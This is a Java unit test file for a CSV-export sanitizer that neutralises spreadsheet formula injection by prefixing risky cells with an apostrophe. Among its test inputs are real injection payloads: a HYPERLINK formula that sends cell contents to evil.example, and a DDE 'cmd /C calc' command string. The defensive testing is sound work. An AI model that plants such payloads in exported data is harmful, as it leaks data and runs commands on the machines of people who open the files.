package dev.seveneight.query.responses;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.Chars;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "=",
        "\tplain",
        "\rplain",
        "\nplain",
        "  \tplain",
        " =1+1",
        "   -2+3",
        "\u00A0=1",
        "\u3000=1",
        "\uFEFF=1",
        "\u200B=1",
        "\u0000=1",
        "\uFF1D1",
        "\uFF0B1",
        "\uFF0D1",
        "\uFF201",
        " \uFF1D1",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "-2+3+cmd|' /C calc'!A0"
      })
  void shouldPutAnApostropheBeforeWhatASpreadsheetWouldRun(String text) {
    assertThat(CsvCell.harmless(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "   ",
        "Good",
        " Good",
        "1+1=2",
        "a@example.com",
        "'=1",
        "Good; fast, cheap",
        "a;b=c",
        "a\\;\\=b",
        "{\"plan\":\"pro\",\"seats\":\"-3\"}",
        "ä=",
        "😀"
      })
  void shouldLeaveEverythingElseAsItIs(String text) {
    assertThat(CsvCell.harmless(text)).isEqualTo(text);
  }

  /** Half of the world separates cells by semicolons, and text is often pasted with tabs. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      ignoreLeadingAndTrailingWhitespace = false,
      value = {
        "good;=1+1|good;'=1+1",
        "good,=1+1|good,'=1+1",
        "good;  =1+1|good;'  =1+1",
        "good;\"=1+1\"|good;\"'=1+1\"",
        "good;\"\" @x|good;\"\"' @x",
        ";;+1;-2;@a|;;'+1;'-2;'@a",
        "=1;=2|'=1;'=2",
        "\"=1|\"'=1",
        "{\"a\":\"x\",\"=b\":1}|{\"a\":\"x\",\"'=b\":1}",
        "a;\u00A0\uFF1D1|a;'\u00A0\uFF1D1",
      })
  void shouldPutAnApostropheBeforeAFormulaInTheMiddle(String text, String harmless) {
    assertThat(CsvCell.harmless(text)).isEqualTo(harmless);
  }

  @Test
  void shouldPutAnApostropheBeforeAFormulaBehindATabOrALineBreak() {
    assertThat(CsvCell.harmless("\t=1")).isEqualTo("'\t'=1");
    assertThat(CsvCell.harmless("good\t=1")).isEqualTo("good\t'=1");
    assertThat(CsvCell.harmless("good\n=1")).isEqualTo("good\n'=1");
    assertThat(CsvCell.harmless("good\r\n -1\r+1")).isEqualTo("good\r\n' -1\r'+1");
  }

  /** A line of the export, read by a program that knows no quotes or sees them too late. */
  @Property
  void shouldLeaveNoFormulaWhateverSeparatesCells(
      @ForAll
          @Chars({'=', '+', '-', '@', '\uFF1D', ',', ';', '\t', '\r', '\n', '"', ' ', 'a'})
          @StringLength(max = 12)
          String text) {
    String cell = "\"" + CsvCell.harmless(text).replace("\"", "\"\"") + "\"";
    for (String part : ("id," + cell + ",end").split("[,;\\t\\r\\n]", -1)) {
      assertThat(part.replaceFirst("^[\" ]*", "")).doesNotMatch("(?s)[-=+@\uFF1D].*");
    }
  }
}
